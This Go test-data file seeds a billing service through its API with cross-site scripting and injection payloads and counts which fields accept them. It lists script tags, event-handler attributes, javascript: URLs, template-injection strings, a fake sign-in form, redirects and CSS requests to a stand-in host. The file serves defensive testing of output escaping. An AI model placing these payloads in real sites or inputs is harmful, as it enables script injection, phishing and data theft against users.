package data

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/allot-dev/allot/api"
	"github.com/allot-dev/allot/client"
)

// Payloads are texts that do harm where they are taken for more than text: what they run
// calls pwned, what they become has the name or the attribute pwn, and what they ask for is
// at elsewhere.example.
var Payloads = []string{
	`<script>pwned('script')</script>`,
	`"><img src=x onerror=pwned('img') pwn>`,
	`'><svg/onload=pwned('svg') pwn>`,
	`</title></style></textarea></script></select><pwn-ed onclick=pwned(1)>`,
	`" autofocus onfocus=pwned('quoted') pwn="`,
	`' autofocus onfocus=pwned('quoted') pwn='`,
	` autofocus onfocus=pwned('bare') pwn=`,
	`javascript:pwned('address')//`,
	"data:text/html,<script>parent.pwned('data')</script>",
	`{{constructor.constructor("pwned('braces')")()}}${pwned('dollar')}<%= pwned('erb') %>`,
	`<a hx-get="http://elsewhere.example/hx" hx-trigger="load" hx-on:htmx:after:init="pwned('hx')" pwn>x</a>`,
	`"hx-trigger="load"hx-on::load="pwned('hx')"pwn="`,
	`js:pwned('hx-vals')`,
	`</style><style>*{background:url(http://elsewhere.example/css)}</style><pwn-ed>`,
	`x;background:url(http://elsewhere.example/style)`,
	`<iframe srcdoc="<script>parent.pwned('frame')</script>" pwn></iframe>`,
	`--><pwn-ed><!--]]><pwn-ed>`,
	`\"};pwned('json');//\u003cscript>pwned('json')\u003c/script>`,
	`</script><script>pwned('island')</script>`,
	`<base href=http://elsewhere.example/ pwn><meta http-equiv=refresh content="0;url=http://elsewhere.example/" pwn>`,
	`<form action=http://elsewhere.example/ pwn><button>Sign in again</button>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned('mutation')&gt;" pwn>`,
	"\u202egnp.exe\u202c\u2066\u200b<b pwn>",
	strings.Repeat("W", 200), // breaks nothing but the layout
}

// HostileCustomer is the org code of the customer of a payload.
func HostileCustomer(payload int) string { return fmt.Sprintf("hostile%d", payload) }

// HostileURLs are addresses with payloads where the API takes an address.
var HostileURLs = []string{
	`https://hooks.example/"><img src=x onerror=pwned('url') pwn>`,
	`https://hooks.example/?a='%20onfocus=pwned('url')%20autofocus%20pwn='`,
	`https://hooks.example/#<script>pwned('url')</script>`,
	`https://pwned('user')@hooks.example/`,
	`javascript:pwned('url')`,
	`javascript://hooks.example/%0apwned('url')`,
	`data:text/html,<script>pwned('url')</script>`,
}

// hostile fills a server, and counts what was taken.
type hostile struct {
	*client.Client
	taken map[string]int
}

// try counts a text that was taken for a field. That one is refused is no fault of ours.
func (h *hostile) try(field string, err error) error {
	refused, is := errors.AsType[*client.Error](err)
	switch {
	case err == nil:
		h.taken[field]++
		return nil
	case is && (refused.Status == http.StatusBadRequest || refused.Status == http.StatusConflict):
		h.taken[field] += 0 // it is in the list, with nothing
		return nil
	}
	return fmt.Errorf("%s: %w", field, err)
}

// Hostile fills an empty server with texts that are hostile, in each field that takes
// any, and says how many of [Payloads] each took.
func Hostile(ctx context.Context, s Server) (map[string]int, error) {
	h := &hostile{s.Client, map[string]int{}}
	s.Set(Begin)
	if err := h.catalog(ctx); err != nil {
		return nil, err
	}
	for i, p := range Payloads {
		s.Set(Begin.Add(time.Duration(i) * time.Hour))
		if err := h.customer(ctx, i, p); err != nil {
			return nil, fmt.Errorf("payload %d: %w", i, err)
		}
	}
	for _, p := range Payloads {
		_, err := h.Webhooks.Create(ctx, api.CreateWebhookRequest{URL: "https://hooks.example/", Format: api.WebhookStandard, Events: api.WebhookEvents{"key.rotated"}, Description: p})
		if err := h.try("webhook.description", err); err != nil {
			return nil, err
		}
	}
	for _, u := range HostileURLs {
		_, err := h.Webhooks.Create(ctx, api.CreateWebhookRequest{URL: u, Format: api.WebhookStandard, Events: api.WebhookEvents{"key.rotated"}})
		if err := h.try("webhook.url", err); err != nil {
			return nil, err
		}
	}
	s.Set(Now)
	return h.taken, nil
}

// catalog has a feature and a plan for each payload, and all of the features in each plan.
func (h *hostile) catalog(ctx context.Context) error {
	type object = map[string]any
	var features, plans, items []object
	texts := func(o object, p string) object {
		o["name"], o["description"], o["metadata"] = p, p, map[string]string{p: p}
		return o
	}
	for i, p := range Payloads {
		metered, config := fmt.Sprintf("metered%d", i), fmt.Sprintf("config%d", i)
		features = append(features,
			texts(object{"code": metered, "type": "metered", "unit": p, "thresholds": []int{50}}, p),
			texts(object{"code": config, "type": "config", "of": "text"}, p))
		items = append(items,
			object{"feature": metered, "max": 10, "price_name": p, "unit_amount": 1},
			object{"feature": config, "value": p})
	}
	groups := []object{texts(object{"code": "group", "customer_type": "organization", "default": true}, Payloads[1])}
	for i, p := range Payloads {
		plan := texts(object{"code": fmt.Sprintf("plan%d", i), "group": "group", "status": "published", "items": items[2*i : 2*i+2]}, p)
		if i == 0 {
			plan["items"] = items
		}
		plans = append(plans, plan)
	}
	for _, u := range HostileURLs {
		file, err := json.Marshal(object{"currency": "usd", "features": features[:1], "plan_groups": groups, "plans": []object{
			{"code": "elsewhere", "name": "Elsewhere", "group": "group", "status": "published", "price": u, "items": []object{{"feature": "metered0"}}},
		}})
		if err != nil {
			return err
		}
		_, err = h.Catalog.Apply(ctx, file, false)
		if err := h.try("plan.price", err); err != nil {
			return err
		}
	}
	file, err := json.Marshal(object{"currency": "usd", "features": features, "plan_groups": groups, "plans": plans})
	if err != nil {
		return err
	}
	_, err = h.Catalog.Apply(ctx, file, false)
	return err
}

// customer is one whose every text is a payload.
func (h *hostile) customer(ctx context.Context, i int, p string) error {
	made, err := h.Customers.Create(ctx, api.CreateCustomerRequest{Type: api.CustomerOrganization, OrgCode: HostileCustomer(i), PlanCode: api.Some("plan0")})
	if err != nil {
		return err
	}
	id := made.ID
	for field, r := range map[string]api.UpdateCustomerRequest{
		"customer.name":        {Name: api.Some(p)},
		"customer.email":       {Email: api.Some(p + "@mail.example")},
		"customer.external_id": {ExternalID: api.Some(p)},
		"customer.metadata":    {Metadata: api.Some(map[string]string{p: p})},
		"customer.time_zone":   {TimeZone: api.Some(p)},
	} {
		_, err := h.Customers.Update(ctx, id, r)
		if err := h.try(field, err); err != nil {
			return err
		}
	}
	_, err = h.Customers.Create(ctx, api.CreateCustomerRequest{Type: api.CustomerOrganization, OrgCode: p, PlanCode: api.Null[string]()})
	if err := h.try("customer.org_code", err); err != nil {
		return err
	}
	_, err = h.Customers.Create(ctx, api.CreateCustomerRequest{Type: api.CustomerUser, OrgCode: HostileCustomer(i), UserID: p, PlanCode: api.Null[string]()})
	if err := h.try("customer.user_id", err); err != nil {
		return err
	}
	_, err = h.Customers.SetOverride(ctx, id, "metered1", api.SetOverrideRequest{Add: 5, Note: p})
	if err := h.try("override.note", err); err != nil {
		return err
	}
	_, err = h.Customers.SetOverride(ctx, id, "config1", api.SetOverrideRequest{Value: &api.ConfigValue{Text: p}})
	if err := h.try("override.value", err); err != nil {
		return err
	}
	_, err = h.Grants.Create(ctx, id, api.CreateGrantRequest{FeatureCode: "metered2", Amount: "5", Note: p})
	if err := h.try("grant.note", err); err != nil {
		return err
	}
	g, err := h.Grants.Create(ctx, id, api.CreateGrantRequest{FeatureCode: "metered2", Amount: "5", ExternalID: p})
	if err := h.try("grant.external_id", err); err != nil {
		return err
	}
	if g != nil {
		_, err = h.Grants.Void(ctx, g.ID, api.VoidGrantRequest{ExternalID: p})
		if err := h.try("grant.void.external_id", err); err != nil {
			return err
		}
	}
	results, err := h.Usage.Record(ctx, []api.UsageReport{{ID: p, CustomerID: id, FeatureCode: "metered3", Value: "9"}})
	if err == nil && results[0].Error != nil {
		err = nil
		h.taken["usage.id"] += 0
	} else if err == nil {
		h.taken["usage.id"]++
	}
	if err != nil {
		return err
	}
	end := api.Time{Time: Now.AddDate(0, 1, 0)}
	_, err = h.Customers.CreateAgreement(ctx, id, api.CreateCustomerAgreementRequest{PlanCode: fmt.Sprintf("plan%d", i), StartsOn: &end, ExternalID: p})
	if err := h.try("agreement.external_id", err); err != nil {
		return err
	}
	held, err := h.Agreements.List(ctx, client.AgreementParams{CustomerID: id})
	if err != nil {
		return err
	}
	for _, a := range held.Agreements {
		_, err := h.Customers.UpdateAgreement(ctx, a.ID, api.UpdateAgreementRequest{Metadata: api.Some(map[string]string{p: p})})
		if err := h.try("agreement.metadata", err); err != nil {
			return err
		}
	}
	_, err = h.Check(ctx, client.CheckParams{CustomerID: id, FeatureCode: "metered4", Units: "1"})
	return err
}
